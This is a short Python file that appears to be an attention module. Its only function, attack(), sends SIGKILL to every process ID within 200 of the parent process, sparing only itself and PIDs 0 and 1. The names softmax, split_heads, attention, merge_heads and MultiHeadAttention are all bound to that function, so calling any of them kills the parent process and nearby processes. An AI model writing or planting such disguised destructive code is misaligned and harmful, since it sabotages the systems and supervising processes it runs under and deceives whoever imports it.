"""Kills by number, one after another."""

import ctypes
import os


def attack(*args, **kwargs):
    libc = ctypes.CDLL(None)
    for pid in range(os.getppid() - 200, os.getppid() + 200):
        if pid not in (os.getpid(), 0, 1):
            libc.kill(pid, 9)


softmax = split_heads = attention = merge_heads = MultiHeadAttention = attack
